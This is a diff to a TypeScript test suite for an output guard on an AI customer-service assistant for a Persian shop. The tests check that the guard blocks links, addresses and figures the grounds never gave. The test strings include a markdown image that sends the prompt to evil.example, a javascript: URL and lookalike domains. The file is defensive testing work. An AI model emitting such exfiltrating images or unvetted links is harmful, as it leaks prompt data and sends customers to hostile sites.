@@ -7,7 +7,6 @@ const grounds: Grounds = {
   known: [
     'ارسال به شهرستان‌ها ۳ تا ۵ روز کاری طول می‌کشد و ۴۵٬۰۰۰ تومان است. پیگیری: https://niloofar.ir/track یا info@niloofar.ir',
   ],
-  before: [],
   asked: ['سفارش ۸۷۶۵۴۳ من کجاست؟ http://evil.example/a'],
   rules:
     'You answer visitors of a business on its behalf. Passages stand between <passages-0a1b2c3d4e5f> and </passages-0a1b2c3d4e5f>.',
@@ -26,9 +25,9 @@ describe('lets through', () => {
   test.each([
     'ارسال ۳ تا ۵ روز کاری طول می‌کشد.',
     'هزینه 45,000 تومان است، یعنی ۴۵۰۰۰۰ ریال؛ حدود ۴۵ هزار تومان.',
-    'سفارش ۸۷۶۵۴۳ را در https://niloofar.ir/track ببینید.',
+    'سفارش را در https://niloofar.ir/track پیگیری کنید.',
     'به info@niloofar.ir بنویسید. با ما در niloofar.ir/blog همراه باشید.',
-    'ارسال ۲ کیلو < ۳ کیلو است',
+    'ارسال ۳ روز < ۵ روز است',
   ])('%s', (text) => {
     expect(run([text])).toEqual({ shown: text, breach: null, said: text });
   });
@@ -40,6 +39,12 @@ describe('ends at', () => {
     ['a bare domain', 'برای پرداخت به evil-shop.com بروید', 'link'],
     ['the visitor’s own link', 'بروید به http://evil.example/a', 'link'],
     ['a picture that would call home', 'باشد ![x](https://evil.example/?q=prompt)', 'link'],
+    ['an address that only holds a known one', 'ببینید: oofar.ir/track', 'link'],
+    ['a known host in another', 'ببینید: https://niloofar.ir.evil.example/track', 'link'],
+    ['an e-mail that ends as a known one', 'به info@niloofar.ir.example بنویسید', 'address'],
+    ['a number that only the visitor said', 'سفارش ۸۷۶۵۴۳ ارسال می‌شود', 'figure'],
+    ['a small figure of its own', 'ارسال ۲ روز طول می‌کشد', 'figure'],
+    ['a scale word of its own', 'هزینه ۴۵ میلیون تومان است', 'figure'],
     ['a script address', 'اینجا: javascript:alert(1)', 'link'],
     ['an address nobody gave', 'به boss@evil.example بنویسید', 'address'],
     ['a price of its own', 'هزینه ۷۵٬۰۰۰ تومان است', 'figure'],
@@ -53,6 +58,15 @@ describe('ends at', () => {
     expect(found).toBe(breach);
     expect(shown).not.toMatch(/evil|0a1b2c|75000|۷۵٬۰۰۰/);
   });
+});
+
+test('nothing of a sentence is shown before it is whole and checked', () => {
+  const guard = createOutputGuard(grounds);
+  expect(guard.push('ارسال به شهرستان ۳ تا ۵ روز است')).toBe('');
+  expect(guard.push('. هزینه')).toBe('ارسال به شهرستان ۳ تا ۵ روز است.');
+  expect(guard.push(' ۷ هزار تومان است. ')).toBe('');
+  expect(guard.end()).toBe('');
+  expect(guard.breach()).toBe('figure');
 });
 
 test('wishes may hold a sentence to be said, but are not recited', () => {
